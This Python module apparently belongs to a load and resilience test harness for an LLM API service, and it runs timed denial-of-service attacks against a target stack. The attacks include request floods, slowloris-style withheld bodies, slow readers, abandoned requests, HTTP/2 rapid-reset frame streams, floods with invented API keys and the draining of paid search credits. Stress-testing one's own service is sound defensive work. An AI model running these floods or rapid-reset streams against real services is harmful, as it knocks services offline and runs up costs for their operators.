"""`python -m attacks.attacker`: one attack, in a process of its own, until its time is over.

A process of its own keeps the attack's work out of the bystander's event loop. The target comes as
JSON on standard input, because it has credentials. The line BEGUN on standard output says that the
attack begins; what it spent follows as JSON at its end.
"""

import asyncio
import contextlib
import dataclasses
import itertools
import json
import re
import resource
import sys
import time
from collections.abc import Awaitable, Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Final

import aiohttp
import hpack

from attacks.shapes import SHAPES, filled
from meter.identity.keys.key_text import mint

PARALLEL_SEARCHES: Final = "parallel searches"
EXCEEDED_HOLDS: Final = "exceeded holds"
SLOW_READERS: Final = "slow readers"
ABANDONED: Final = "abandoned requests"
# The upstream answers requests with this header as the campaign told it for the attack.
ATTACK_HEADER: Final = "x-attack"
API_FLOOD: Final = "flood of the API"
CHAT: Final = "/v1/chat/completions"
API_PATH: Final = "/api/v1/credits"
SEARCHING_MODEL: Final = "openai/gpt-4o-mini-search-preview"
FLOOD_CONNECTIONS: Final = 48
DRAINING_CONNECTIONS: Final = 100
BODY_CONNECTIONS: Final = 3
WITHHOLDING_CONNECTIONS: Final = 200
DECLARED_BYTES: Final = 20 * 2**20
PIECE: Final = b" " * 2**20
MADE_UP_CONNECTIONS: Final = 400
MADE_UP_KEYS: Final = 20_000
H2_RESETS_AT_ONCE: Final = 50
RESETTING_CONNECTIONS: Final = 8
PAUSE_S: Final = 0.02
LEAVING_CONNECTIONS: Final = 12
# Clients leave before the headers of the reply, or in the middle of it: see `campaign`.
LEAVES_AFTER_S: Final = (0.15, 0.6)
# Written when the attack begins; what it spent follows at its end.
BEGUN: Final = b"begun\n"
_CONTENT_LENGTH: Final = re.compile(rb"content-length: (\d+)")
_DATA_FRAME, _HEADERS_FRAME, _RST_STREAM_FRAME = 0, 1, 3
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL: Final = (8).to_bytes(4)
# The preface of HTTP/2, and settings without any.
_H2_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
_MOST_STREAMS: Final = 2**31
_HEADERS: Final = "host: attacks\r\ncontent-type: application/json\r\n"


@dataclass(frozen=True, slots=True)
class Target:
    """A stack, and the credentials that the attacker has."""

    host: str
    port: int
    model: str
    seconds: float
    key: str = field(repr=False)
    poor_key: str = field(repr=False)
    searcher_key: str = field(repr=False)
    exceeder_key: str = field(repr=False)


@dataclass(slots=True)
class Spent:
    """The requests that an attack sent, by status (0: no answer), and its own CPU seconds."""

    statuses: dict[int, int] = field(default_factory=dict)
    connections: int = 0
    cpu_s: float = 0.0

    def note(self, status: int) -> None:
        """Count one answer."""
        self.statuses[status] = self.statuses.get(status, 0) + 1


Run = Callable[[Target, Spent], Awaitable[None]]


def small_body(model: str, max_tokens: int = 8) -> bytes:
    """Return a request as most are."""
    message = {"role": "user", "content": "Say good day, please."}
    return json.dumps({"model": model, "max_tokens": max_tokens, "messages": [message]}).encode()


async def _ask_without_end(
    target: Target,
    spent: Spent,
    headers: Mapping[str, str],
    body: bytes,
) -> None:
    url = f"http://{target.host}:{target.port}{CHAT}"
    # Abandoned connections are part of most attacks; the pool must not wait for them.
    timeout = aiohttp.ClientTimeout(total=10)
    async with aiohttp.ClientSession(timeout=timeout) as session:
        while True:
            try:
                async with session.post(url, data=body, headers=headers) as reply:
                    await reply.read()
                    spent.note(reply.status)
            except (aiohttp.ClientError, TimeoutError, OSError):
                spent.note(0)
                await asyncio.sleep(PAUSE_S)


class _Asker(asyncio.Protocol):
    """One HTTP/1.1 connection that asks again as soon as it is answered, at little cost."""

    def __init__(self, spent: Spent, requests: Iterator[bytes]) -> None:
        self._spent = spent
        self._requests = requests
        self._received = b""
        self.closed: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Send the first request."""
        assert isinstance(transport, asyncio.WriteTransport)
        self._transport = transport
        transport.write(next(self._requests))

    def data_received(self, data: bytes) -> None:
        """Send the next request where an answer is complete."""
        self._received += data
        head, found, rest = self._received.partition(b"\r\n\r\n")
        if not found:
            return
        length = _CONTENT_LENGTH.search(head)
        ends = len(rest) >= int(length[1]) if length else rest.endswith(b"0\r\n\r\n")
        if ends:
            self._spent.note(int(head.split(maxsplit=2)[1]))
            self._received = b""
            self._transport.write(next(self._requests))

    def connection_lost(self, _error: Exception | None) -> None:
        """Say that the connection has ended."""
        if not self.closed.done():
            self.closed.set_result(None)


async def _keep_asking(
    target: Target, spent: Spent, connections: int, requests: Iterator[bytes]
) -> None:
    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                _, asker = await asyncio.get_running_loop().create_connection(
                    lambda: _Asker(spent, requests), target.host, target.port
                )
                await asker.closed
                spent.note(0)
            await asyncio.sleep(PAUSE_S)

    spent.connections = connections
    await asyncio.gather(*(one() for _ in range(connections)))


def _request(method: str, path: str, key: str, body: bytes = b"") -> bytes:
    head = f"{method} {path} HTTP/1.1\r\n{_HEADERS}authorization: Bearer {key}\r\n"
    return f"{head}content-length: {len(body)}\r\n\r\n".encode() + body


async def _flood(target: Target, spent: Spent) -> None:
    asked = _request("POST", CHAT, target.key, small_body(target.model))
    await _keep_asking(target, spent, FLOOD_CONNECTIONS, itertools.repeat(asked))


def _with_made_up_keys(method: str, path: str, body: bytes) -> Iterator[bytes]:
    """Yield requests with another key each time, none of which there is."""
    # Of the right form, so that only the database can tell. That each is unknown is forgotten long
    # before its next turn.
    keys = [mint().plain.reveal() for _ in range(MADE_UP_KEYS)]
    return itertools.cycle([_request(method, path, key, body) for key in keys])


async def _make_up_keys(target: Target, spent: Spent) -> None:
    asked = _with_made_up_keys("POST", CHAT, small_body(target.model))
    await _keep_asking(target, spent, MADE_UP_CONNECTIONS, asked)


async def _flood_the_api(target: Target, spent: Spent) -> None:
    asked = _with_made_up_keys("GET", API_PATH, b"")
    await _keep_asking(target, spent, FLOOD_CONNECTIONS, asked)


def _drain(key: Callable[[Target], str]) -> Run:
    """Ask many times at once for searches that no request asks for, with the shortest reply."""

    async def run(target: Target, spent: Spent) -> None:
        spent.connections = DRAINING_CONNECTIONS
        headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
        body = small_body(SEARCHING_MODEL, max_tokens=1)
        await asyncio.gather(
            *(_ask_without_end(target, spent, headers, body) for _ in range(DRAINING_CONNECTIONS))
        )

    return run


def _flood_of(shape: str, key: Callable[[Target], str]) -> Run:
    async def run(target: Target, spent: Spent) -> None:
        spent.connections = BODY_CONNECTIONS
        body = filled(SHAPES[shape], target.model)
        headers = {"authorization": f"Bearer {key(target)}", "content-type": "application/json"}
        await asyncio.gather(
            *(_ask_without_end(target, spent, headers, body) for _ in range(BODY_CONNECTIONS))
        )

    return run


async def _withhold(target: Target, spent: Spent) -> None:
    """Send large bodies without a credential, all but the last byte."""
    head = f"POST {CHAT} HTTP/1.1\r\n{_HEADERS}content-length: {DECLARED_BYTES}\r\n\r\n".encode()

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                spent.connections += 1
                writer.write(head)
                sending = asyncio.create_task(_send_all_but_one(writer))
                try:
                    # An answer ends it; until then the connection is held.
                    answer = await reader.readline()
                    spent.note(int(answer.split()[1]) if answer.startswith(b"HTTP") else 0)
                finally:
                    sending.cancel()
                    writer.close()
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*(one() for _ in range(WITHHOLDING_CONNECTIONS)))


async def _send_all_but_one(writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        for _ in range(DECLARED_BYTES // len(PIECE) - 1):
            writer.write(PIECE)
            await writer.drain()
        writer.write(PIECE[1:])


async def _read_slowly(target: Target, spent: Spent) -> None:
    """Ask for streams, and never read a byte of the answers."""
    body = json.dumps(json.loads(small_body(target.model)) | {"stream": True, "max_tokens": 2_000})
    request = (
        f"POST {CHAT} HTTP/1.1\r\n{_HEADERS}authorization: Bearer {target.key}\r\n"
        f"{ATTACK_HEADER}: {SLOW_READERS}\r\n"
        f"content-length: {len(body)}\r\n\r\n{body}"
    ).encode()
    held = []
    for _ in range(WITHHOLDING_CONNECTIONS):
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(target.host, target.port, limit=1)
            writer.write(request)
            held.append(writer)
            spent.connections += 1
    await asyncio.Event().wait()


async def _abandon(target: Target, spent: Spent) -> None:
    """Ask without a limit of tokens, half of the times for a stream, and leave."""
    spent.connections = LEAVING_CONNECTIONS
    headers = {
        "authorization": f"Bearer {target.key}",
        "content-type": "application/json",
        ATTACK_HEADER: ABANDONED,
    }
    asked = json.loads(small_body(target.model))
    del asked["max_tokens"]

    async def one(turn: int) -> None:
        async with aiohttp.ClientSession() as session:
            for number in itertools.count(turn):
                body = json.dumps(asked | {"stream": number % 2 == 0})
                leaves_after_s = LEAVES_AFTER_S[number // 2 % 2]
                url = f"http://{target.host}:{target.port}{CHAT}"
                status = 0
                try:
                    async with (
                        asyncio.timeout(leaves_after_s),
                        session.post(url, data=body, headers=headers) as reply,
                    ):
                        status = reply.status
                        await reply.read()
                except (aiohttp.ClientError, TimeoutError, OSError):
                    pass
                spent.note(status)

    await asyncio.gather(*map(one, range(LEAVING_CONNECTIONS)))


async def _reset_rapidly(target: Target, spent: Spent) -> None:
    """Send whole requests over HTTP/2, without a credential, and reset each at once."""
    headers = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":authority", b"attacks"),
        (b":path", CHAT.encode()),
        (b"content-type", b"application/json"),
    )
    # Nothing of it enters the tables of the connection, so that each stream sends the same bytes.
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in headers])
    opening = len(block).to_bytes(3) + bytes((_HEADERS_FRAME, _END_HEADERS))
    body = small_body(target.model)
    ending = len(body).to_bytes(3) + bytes((_DATA_FRAME, _END_STREAM))
    reset = (4).to_bytes(3) + bytes((_RST_STREAM_FRAME, 0))

    def streams(first: int) -> bytes:
        return b"".join(
            opening
            + (number := stream.to_bytes(4))
            + block
            + ending
            + number
            + body
            + reset
            + number
            + _CANCEL
            for stream in range(first, first + 2 * H2_RESETS_AT_ONCE, 2)
        )

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                spent.connections += 1
                writer.write(_H2_PREFACE)
                for first in range(1, _MOST_STREAMS, 2 * H2_RESETS_AT_ONCE):
                    writer.write(streams(first))
                    await writer.drain()
                    spent.statuses[0] = spent.statuses.get(0, 0) + H2_RESETS_AT_ONCE
                    if reader.at_eof() or writer.is_closing():
                        break
                    await asyncio.sleep(0)
                writer.close()
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*(one() for _ in range(RESETTING_CONNECTIONS)))


RUNS: Final[Mapping[str, Run]] = {
    "withheld bodies": _withhold,
    SLOW_READERS: _read_slowly,
    ABANDONED: _abandon,
    "rapid resets": _reset_rapidly,
    "made-up keys": _make_up_keys,
    "flood of one account": _flood,
    "flood without credit": _flood_of("many members", lambda target: target.poor_key),
    API_FLOOD: _flood_the_api,
    PARALLEL_SEARCHES: _drain(lambda target: target.searcher_key),
    EXCEEDED_HOLDS: _drain(lambda target: target.exceeder_key),
    **{f"bodies: {shape}": _flood_of(shape, lambda target: target.key) for shape in SHAPES},
}


async def attack(name: str, target: Target, say_begun: Callable[[], None]) -> Spent:
    """Run an attack for its time, which begins with its first connection; return what it spent."""
    spent = Spent()
    attacking = asyncio.ensure_future(RUNS[name](target, spent))
    while not spent.connections and not attacking.done():  # noqa: ASYNC110  # attacks tell nobody
        await asyncio.sleep(PAUSE_S)
    say_begun()
    await asyncio.wait({attacking}, timeout=target.seconds)
    attacking.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await attacking
    usage = resource.getrusage(resource.RUSAGE_SELF)
    spent.cpu_s = round(usage.ru_utime + usage.ru_stime, 2)
    return spent


def main() -> None:
    """Read the target, attack, and print what it took."""
    request = json.load(sys.stdin)
    began_s = time.monotonic()

    def say_begun() -> None:
        sys.stdout.buffer.write(BEGUN)
        sys.stdout.flush()

    spent = asyncio.run(attack(request["attack"], Target(**request["target"]), say_begun))
    seconds = round(time.monotonic() - began_s, 1)
    json.dump(dataclasses.asdict(spent) | {"seconds": seconds}, sys.stdout)


if __name__ == "__main__":
    main()
